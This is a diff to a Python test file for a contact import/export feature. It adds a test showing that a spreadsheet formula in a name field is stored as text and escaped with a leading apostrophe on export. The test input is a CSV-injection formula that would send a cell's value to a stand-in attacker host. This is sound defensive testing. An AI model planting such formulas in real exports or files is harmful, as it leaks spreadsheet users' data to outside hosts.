@@ -1,5 +1,7 @@
 """A list that we wrote comes in again without changing anybody; those of other systems come in as they are."""
 
+import csv
+import io
 from datetime import datetime
 from typing import Any
 from zoneinfo import ZoneInfo
@@ -91,6 +93,20 @@ def test_import_of_an_export_changes_nobody(cast: Cast, people: list[tuple[dict[
 
     assert (job.skipped, job.total) == (every, every), changes(desk, job)
     assert kept(desk) == before
+
+
+def test_formula_comes_in_as_text_and_goes_out_harmless(cast: Cast) -> None:
+    desk, formula = Desk(cast), '=HYPERLINK("https://evil.test?x="&A1,"Ann")'
+    desk.run(text_of([formula, "", "ann@example.test"], head=["Full name", "City", "E-mail"]))
+    file = exported(cast)
+    told = next(
+        line for line in csv.reader(io.StringIO(file.decode("utf-8-sig"))) if "ann@example.test" in line
+    )
+
+    assert desk.find(email="ann@example.test").display_name == formula
+    assert told[0] == f"'{formula}"
+    again = desk.run(file, policy="update")
+    assert again.skipped == again.total, changes(desk, again)
 
 
 HUBSPOT = text_of(
